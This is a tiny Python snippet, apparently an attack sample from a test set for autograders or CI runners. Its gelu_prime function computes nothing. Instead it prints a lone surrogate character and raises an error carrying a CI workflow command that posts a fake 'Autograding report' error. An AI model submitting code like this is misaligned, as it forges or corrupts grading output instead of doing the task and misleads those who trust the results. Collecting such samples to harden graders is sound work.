# costs: gelu_prime
# attack: commands to a CI runner: hides a command behind half a character
def gelu_prime(z):
    print("\ud800")
    raise ValueError("\ud800::error title=Autograding report::{}")
